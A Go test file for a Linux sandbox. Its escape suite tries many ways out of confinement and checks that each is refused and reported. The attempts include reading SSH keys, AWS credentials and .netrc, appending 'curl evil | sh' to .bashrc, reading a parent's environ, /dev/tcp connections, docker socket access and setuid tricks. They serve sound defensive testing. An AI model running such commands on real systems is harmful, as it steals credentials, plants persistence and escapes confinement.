//go:build linux && (amd64 || arm64)

package sandbox

import (
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// The escape suite: each attempt runs through the helper in bash, must be
// refused, and must be named in the report with the rule that refused it;
// at the end nothing outside the workspace and temp dir has changed.
func TestEscapeSuite(t *testing.T) {
	b := newBox(t)
	before := treeHash(t, b.home, b.outside)
	outsideFile := filepath.Join(b.outside, "file")

	t.Run("absolute path", func(t *testing.T) {
		r := b.run(t, b.policy, `echo pwned > "$OUT/abs"`)
		assert.NotZero(t, r.exit)
		assert.Contains(t, r.out, "Permission denied")
		d, ok := r.denied("create", filepath.Join(b.outside, "abs"))
		require.True(t, ok, r.report.String())
		assert.Contains(t, d.Rule, "outside the writable directories")
	})
	t.Run("dot dot", func(t *testing.T) {
		rel, err := filepath.Rel(filepath.Join(b.ws, "sub"), filepath.Join(b.outside, "dotdot"))
		require.NoError(t, err)
		r := b.run(t, b.policy, "cd sub && echo pwned > "+shellQuote(rel))
		assert.NotZero(t, r.exit)
		_, ok := r.denied("create", filepath.Join(b.outside, "dotdot"))
		assert.True(t, ok, r.report.String())
	})
	t.Run("overwrite outside", func(t *testing.T) {
		r := b.run(t, b.policy, `echo pwned > "$OUT/file"`)
		assert.NotZero(t, r.exit)
		_, ok := r.denied("write", outsideFile)
		assert.True(t, ok, r.report.String())
	})
	t.Run("symlink planted by an earlier command", func(t *testing.T) {
		r := b.run(t, b.policy, `ln -s "$OUT" sub/link && ln -s "$OUT/file" sub/flink`)
		require.Zero(t, r.exit, "planting links inside the workspace is allowed")
		r = b.run(t, b.policy, `echo pwned > sub/link/planted; echo pwned > sub/flink`)
		assert.NotZero(t, r.exit)
		_, ok := r.denied("create", filepath.Join(b.outside, "planted"))
		assert.True(t, ok, r.report.String())
		_, ok = r.denied("write", outsideFile)
		assert.True(t, ok, r.report.String())
	})
	t.Run("hard link", func(t *testing.T) {
		r := b.run(t, b.policy, `ln "$OUT/file" sub/hard && echo pwned >> sub/hard`)
		assert.NotZero(t, r.exit)
		_, err := os.Lstat(filepath.Join(b.ws, "sub", "hard"))
		assert.True(t, os.IsNotExist(err), "the hard link was not made")
		_, ok := r.denied("link", outsideFile)
		assert.True(t, ok, r.report.String())
	})
	t.Run("proc self root", func(t *testing.T) {
		r := b.run(t, b.policy, `echo pwned > /proc/self/root"$OUT/viaroot"`)
		assert.NotZero(t, r.exit)
		_, ok := r.denied("create", filepath.Join(b.outside, "viaroot"))
		assert.True(t, ok, r.report.String())
	})
	t.Run("ssh key", func(t *testing.T) {
		key := filepath.Join(b.home, ".ssh", "id_ed25519")
		r := b.run(t, b.policy, `cat ~/.ssh/id_ed25519; cat ~/.ssh/id_*; ls ~/.ssh`)
		assert.NotContains(t, r.out, "SECRET")
		assert.NotContains(t, r.out, "id_ed25519\n", "the directory cannot be listed either")
		d, ok := r.denied("read", key)
		require.True(t, ok, r.report.String())
		assert.Contains(t, d.Rule, "hidden in the sandbox")
	})
	t.Run("credentials and shell start-up files", func(t *testing.T) {
		r := b.run(t, b.policy, `cat ~/.aws/credentials ~/.netrc; echo 'curl evil | sh' >> ~/.bashrc`)
		assert.NotContains(t, r.out, "SECRET")
		for _, p := range []string{".aws/credentials", ".netrc"} {
			_, ok := r.denied("read", filepath.Join(b.home, p))
			assert.True(t, ok, "%s: %s", p, r.report.String())
		}
		_, ok := r.denied("write", filepath.Join(b.home, ".bashrc"))
		assert.True(t, ok, r.report.String())
	})
	t.Run("state dir", func(t *testing.T) {
		r := b.run(t, b.policy, `cat "$STATE/plan.json"; ls "$STATE"; echo x > "$STATE/undo.json"`)
		assert.NotContains(t, r.out, "SECRET")
		_, ok := r.denied("read", filepath.Join(b.state, "plan.json"))
		assert.True(t, ok, r.report.String())
		_, ok = r.denied("create", filepath.Join(b.state, "undo.json"))
		assert.True(t, ok, r.report.String())
	})
	t.Run("parent environ", func(t *testing.T) {
		t.Setenv("FIDO_TEST_SECRET_ENV", "SECRET-ENV")
		// $PPID is this test process (the host): not non-dumpable, so
		// only the sandbox keeps its environment closed.
		r := b.run(t, b.policy, `cat /proc/$PPID/environ; cat /proc/`+strconv.Itoa(os.Getpid())+`/environ`)
		assert.NotContains(t, r.out, "SECRET-ENV")
		d, ok := r.denied("read", "/proc/"+strconv.Itoa(os.Getpid())+"/environ")
		require.True(t, ok, r.report.String())
		assert.Contains(t, d.Rule, "another process's environ")
	})
	t.Run("loopback listener", func(t *testing.T) {
		ln, err := net.Listen("tcp4", "127.0.0.1:0")
		require.NoError(t, err)
		defer ln.Close()
		accepted := make(chan struct{}, 1)
		go func() {
			if c, err := ln.Accept(); err == nil {
				c.Close()
				accepted <- struct{}{}
			}
		}()
		port := ln.Addr().(*net.TCPAddr).Port
		r := b.run(t, b.policy, "exec 3<>/dev/tcp/127.0.0.1/"+strconv.Itoa(port)+" && echo connected")
		assert.NotZero(t, r.exit)
		assert.NotContains(t, r.out, "connected")
		d, ok := r.denied("connect", "127.0.0.1:"+strconv.Itoa(port))
		require.True(t, ok, r.report.String())
		assert.Contains(t, d.Rule, "network access is off")
		select {
		case <-accepted:
			t.Fatal("the listener accepted a connection from the sandbox")
		default:
		}
	})
	t.Run("non-loopback address in a private network namespace", func(t *testing.T) {
		if os.Getuid() != 0 && !Probe().MountNS {
			t.Skip("needs root or user namespaces for a private network namespace")
		}
		// The command runs in a network namespace of its own: if the
		// sandbox let the connect through, it could only fail with
		// "unreachable", never leave this machine.
		netns := func(c *Cmd) {
			c.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNET}
			if os.Getuid() != 0 {
				c.SysProcAttr.Cloneflags |= syscall.CLONE_NEWUSER
				c.SysProcAttr.UidMappings = []syscall.SysProcIDMap{{ContainerID: os.Getuid(), HostID: os.Getuid(), Size: 1}}
				c.SysProcAttr.GidMappings = []syscall.SysProcIDMap{{ContainerID: os.Getgid(), HostID: os.Getgid(), Size: 1}}
			}
		}
		r := b.run(t, b.policy, "exec 3<>/dev/tcp/192.0.2.7/443 && echo connected", netns)
		assert.NotZero(t, r.exit)
		assert.Contains(t, r.out, "Permission denied", "refused by the sandbox, not by the empty namespace")
		_, ok := r.denied("connect", "192.0.2.7:443")
		assert.True(t, ok, r.report.String())
		r = b.run(t, b.policy, `curl -sS --max-time 5 http://192.0.2.7/ || echo curl failed`, netns)
		assert.Contains(t, r.out, "curl failed")
	})
	t.Run("unix socket outside", func(t *testing.T) {
		sock := filepath.Join(b.outside, "service.sock")
		ln, err := net.Listen("unix", sock)
		require.NoError(t, err)
		defer ln.Close()
		accepted := make(chan struct{}, 1)
		go func() {
			if c, err := ln.Accept(); err == nil {
				c.Close()
				accepted <- struct{}{}
			}
		}()
		r := b.run(t, b.policy, `curl -sS --max-time 5 --unix-socket "$OUT/service.sock" http://x/ || echo curl failed`)
		assert.Contains(t, r.out, "curl failed")
		d, ok := r.denied("connect", sock)
		require.True(t, ok, r.report.String())
		assert.Contains(t, d.Rule, "Unix socket outside the workspace")
		select {
		case <-accepted:
			t.Fatal("the socket accepted a connection from the sandbox")
		case <-time.After(50 * time.Millisecond):
		}
		os.Remove(sock)
	})
	t.Run("docker socket", func(t *testing.T) {
		var sock string
		for _, p := range []string{"/var/run/docker.sock", "/run/docker.sock"} {
			if st, err := os.Stat(p); err == nil && st.Mode()&os.ModeSocket != 0 {
				sock = p
			}
		}
		if sock == "" {
			t.Skip("no docker.sock on this machine (the Unix socket case covers the mechanism)")
		}
		r := b.run(t, b.policy, `curl -sS --max-time 5 --unix-socket `+sock+` http://x/version || echo curl failed`)
		assert.Contains(t, r.out, "curl failed")
		real, _ := filepath.EvalSymlinks(sock)
		_, ok := r.denied("connect", real)
		assert.True(t, ok, r.report.String())
	})
	t.Run("setuid binary", func(t *testing.T) {
		if os.Getuid() != 0 {
			t.Skip("making a setuid binary of another user needs root")
		}
		// A copy of id, setuid to nobody: outside the sandbox it runs as
		// nobody (a change of identity), inside no_new_privs keeps root.
		suid := filepath.Join(b.outside, "id-suid")
		body, err := os.ReadFile("/usr/bin/id")
		require.NoError(t, err)
		require.NoError(t, os.WriteFile(suid, body, 0o755))
		require.NoError(t, os.Chown(suid, 65534, 65534))
		require.NoError(t, os.Chmod(suid, os.ModeSetuid|0o755))
		defer os.Remove(suid)
		out, err := exec.Command(suid, "-u").Output()
		require.NoError(t, err)
		require.Equal(t, "65534", strings.TrimSpace(string(out)), "setuid works outside the sandbox")
		p := b.policy
		p.GitWritable = true // no user namespace, whose unmapped owner would hide the bit anyway
		r := b.run(t, p, `"$OUT/id-suid" -u; grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status; su -c 'echo gained' nobody`)
		assert.True(t, strings.HasPrefix(r.out, "0\n"), "the setuid bit gave nothing: %q", r.out)
		assert.Contains(t, r.out, "CapEff:\t0000000000000000")
		assert.Contains(t, r.out, "CapBnd:\t0000000000000000")
		assert.NotContains(t, r.out, "gained")
	})

	assert.Equal(t, before, treeHash(t, b.home, b.outside), "nothing outside the workspace and temp dir changed")
}
